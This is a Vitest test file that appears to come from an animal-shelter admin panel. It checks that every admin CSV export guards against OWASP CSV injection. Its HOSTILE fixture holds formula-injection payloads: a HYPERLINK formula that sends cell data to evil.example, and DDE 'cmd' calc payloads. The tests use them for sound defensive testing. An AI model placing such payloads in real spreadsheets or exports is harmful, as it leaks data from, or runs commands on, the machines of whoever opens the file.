// Issue 14, item 8: every admin CSV export is safe to open in a spreadsheet (OWASP "CSV Injection").
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { fieldLabel, valueLabel } from '../i18n/values';
import { CSV_EXPORTS, type CsvResource, csvCell, exportedFields, toCsv } from './csv';

/** What a visitor could type into a form, or staff paste from somewhere else. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
  "=cmd|' /C calc'!A0",
  '+54 11 5555-0123',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  'normal, con coma; "comillas"\r\ny salto',
];

const ID = '0b9c3f4e-6a52-4c1e-9a59-3e0f7f1c2d11';
const DATE = '2024-05-01T13:00:00.000Z';

/** One record of each exportable resource, as the admin API answers it, every text made hostile. */
function hostileRecord(resource: CsvResource): Record<string, unknown> {
  let n = 0;
  const h = () => HOSTILE[n++ % HOSTILE.length]!;
  switch (resource) {
    case 'dogs':
      return {
        id: ID,
        name: h(),
        gender: h(),
        age: h(),
        size: h(),
        race: h(),
        references: [h(), h()],
        features: h(),
        toAdopt: true,
        isSponsored: false,
        isDelete: false,
        isPending: false,
        video: h(),
        images: [{ key: 'perro-1', width: 1280, height: 960, widths: [480, 1280] }],
        createdAt: h(),
        deletedAt: null,
      };
    case 'adoptions':
      return {
        id: ID,
        nameDog: h(),
        dogId: null,
        name: h(),
        email: h(),
        phone: h(),
        birthday: h(),
        people: -3,
        items: [h(), h()],
        description: h(),
        isPending: true,
        date: DATE,
        idempotencyKey: h(),
      };
    case 'volunteers':
      return {
        id: ID,
        name: h(),
        email: h(),
        phone: h(),
        area: h(),
        availability: 4,
        days: [h(), h()],
        question: h(),
        isPending: true,
        date: DATE,
      };
    case 'foster-applications':
      return {
        id: ID,
        name: h(),
        email: h(),
        phone: h(),
        area: h(),
        address: h(),
        home: 'departamento',
        household: h(),
        sizes: ['chico', h()],
        canTake: [],
        isPending: true,
        date: DATE,
      };
    case 'contacts':
      return {
        id: ID,
        fullName: h(),
        organization: h(),
        email: h(),
        telephone: h(),
        asunto: h(),
        consulta: h(),
        handled: false,
        createdAt: DATE,
      };
    case 'contributions':
      return {
        id: ID,
        name: h(),
        email: h(),
        type: 'donation',
        dogName: h(),
        detail: h(),
        date: DATE,
        total: -1500.5,
        currency: 'ARS',
        method: 'transfer',
        providerPaymentId: h(),
      };
    case 'press':
      return { id: ID, media: h(), type: 'Diario', link: h(), date: h(), title: h(), description: h() };
    case 'escolar':
      return { id: ID, category: 'Escuela', link: h(), date: '2024-05-01', title: h(), description: h() };
    case 'subscriptions':
      return {
        id: ID,
        provider: 'mercadopago',
        providerSubscriptionId: h(),
        type: 'padrinazgo',
        dogName: h(),
        amount: 3000,
        currency: 'ARS',
        email: h(),
        name: h(),
        status: 'active',
        wantsUpdates: true,
        startedAt: DATE,
        createdAt: DATE,
      };
  }
}

/** RFC 4180 reader: what a spreadsheet sees, cell by cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

const DANGEROUS_START = /^[=+\-@\t\r]/;

describe('csvCell (OWASP CSV injection)', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['=A1,"x"', `"'=A1,""x"""`],
    ['a "b"', '"a ""b"""'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['a\nb', '"a\nb"'],
    ['texto común', 'texto común'],
    ['', ''],
  ])('%j is written %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('keeps genuine numbers numeric (negative ones too), and empties null', () => {
    expect(csvCell(-1500.5)).toBe('-1500.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    // A number written as text is text: it gets the quote like any other.
    expect(csvCell('-1500')).toBe("'-1500");
  });

  it('joins lists in one cell and neutralises the cell, whatever its first item', () => {
    expect(csvCell(['=1+1', 'b'])).toBe(`"'=1+1, b"`);
  });
});

describe.each(Object.keys(CSV_EXPORTS) as CsvResource[])('the %s export', (resource) => {
  const record = hostileRecord(resource);
  const text = CSV_EXPORTS[resource].build([record]);
  const [header, row, ...rest] = parseCsv(text.replace(/^\uFEFF/, ''));
  // The stored field behind each column (the headers are the panel's Spanish labels).
  const fields = resource === 'dogs' ? header! : exportedFields(resource, [record]).map(({ field }) => field);

  it('starts with the BOM, has one header line and one line per record, all of equal width', () => {
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(rest).toEqual([]);
    expect(row).toHaveLength(header!.length);
    expect(header!.length).toBeGreaterThan(3);
  });

  it('has no cell a spreadsheet would run as a formula', () => {
    for (const [i, cell] of row!.entries()) {
      // A number-typed value (a negative total) is a number to the spreadsheet, not a formula.
      if (typeof record[fields[i]!] === 'number') continue;
      expect(cell, `${header![i]}: ${cell}`).not.toMatch(DANGEROUS_START);
    }
    // Every hostile text made it into the file (only neutralised), so the check above saw it.
    const hostileCells = row!.filter((cell) => HOSTILE.some((h) => cell.includes(h)));
    expect(hostileCells.length).toBeGreaterThanOrEqual(3);
    for (const cell of hostileCells) {
      const original = HOSTILE.find((h) => cell === `'${h}` || cell.startsWith(`'${h}`));
      if (original && DANGEROUS_START.test(original)) expect(cell.startsWith("'")).toBe(true);
    }
  });

  it('writes each text back exactly, a leading quote added only where a formula could start', () => {
    for (const [i, cell] of row!.entries()) {
      const field = fields[i]!;
      const stored = field in record ? record[field] : undefined;
      if (typeof stored !== 'string') continue;
      // An enumeration is written as its label; any other text as it came.
      const source = valueLabel(resource, field, stored);
      expect(cell, field).toBe(DANGEROUS_START.test(source) ? `'${source}` : source);
    }
  });

  it('keeps number-typed values numeric', () => {
    for (const [i, cell] of row!.entries()) {
      const source = record[fields[i]!];
      if (typeof source === 'number') expect(cell).toBe(String(source));
    }
  });
});

describe('the exports read like the panel', () => {
  it('head each column with its Spanish label and write enumerations and flags in Spanish', () => {
    const text = CSV_EXPORTS.contributions.build([
      {
        id: 'c1',
        type: 'donación',
        status: 'paid',
        method: 'mercadopago',
        total: 500,
        currency: 'ARS',
        isTest: false,
      },
    ]);
    const [header, row] = parseCsv(text.slice(1));
    expect(header).not.toContain('status');
    const cell = (field: string) => row![header!.indexOf(fieldLabel('contributions', field))];
    expect(cell('status')).toBe(valueLabel('contributions', 'status', 'paid'));
    expect(cell('status')).not.toBe('paid');
    expect(cell('total')).toBe('500');
  });
});

describe('the admin lists', () => {
  const src = path.resolve(path.dirname(new URL(import.meta.url).pathname), '..');
  const lists = (readdirSync(src, { recursive: true }) as string[]).filter((f) => f.endsWith('List.tsx'));

  it("never fall back to react-admin's default exporter (it writes formulas as they come)", () => {
    expect(lists.length).toBeGreaterThanOrEqual(9);
    for (const file of lists) {
      const code = readFileSync(path.join(src, file), 'utf8');
      if (file.endsWith('RecordList.tsx')) {
        // The lists' shared component: a list that gives no exporter has none.
        expect(code).toMatch(/^\s+exporter = false,$/m);
        expect(code).toMatch(/<List\s[^>]*\bexporter=\{exporter\}/);
        continue;
      }
      const lists = code.match(/<List\b/g)?.length ?? 0;
      const exporters = code.match(/\bexporter=\{(false|csvExporter\('\w+'\)|exportDogs)\}/g)?.length ?? 0;
      expect(exporters, file).toBeGreaterThanOrEqual(lists);
    }
  });

  it('export foster applications without the address, even if a record carried one (issue 38)', () => {
    const record = hostileRecord('foster-applications');
    const [header, row] = parseCsv(CSV_EXPORTS['foster-applications'].build([record]).slice(1));
    expect(header).not.toContain('address');
    expect(header).toContain('Casa');
    expect(row).not.toContain(record.address);
  });

  it('export the dogs with the chosen Spanish columns and image addresses', () => {
    const text = toCsv([{ a: 1 }], [['nombre', (r) => r.a]]);
    expect(text).toBe('\uFEFFnombre\r\n1');
    const dogs = CSV_EXPORTS.dogs.build([hostileRecord('dogs')]);
    const [header, row] = parseCsv(dogs.slice(1));
    expect(header).toEqual([
      'id',
      'nombre',
      'sexo',
      'edad',
      'tamaño',
      'raza',
      'referencias',
      'características',
      'en adopción',
      'apadrinado',
      'dado de baja',
      'pendiente',
      'video',
      'imágenes',
      'ingresó',
      'baja',
    ]);
    expect(row![header!.indexOf('imágenes')]).toMatch(/\/media\/perro-1-1280\.webp$/);
  });
});
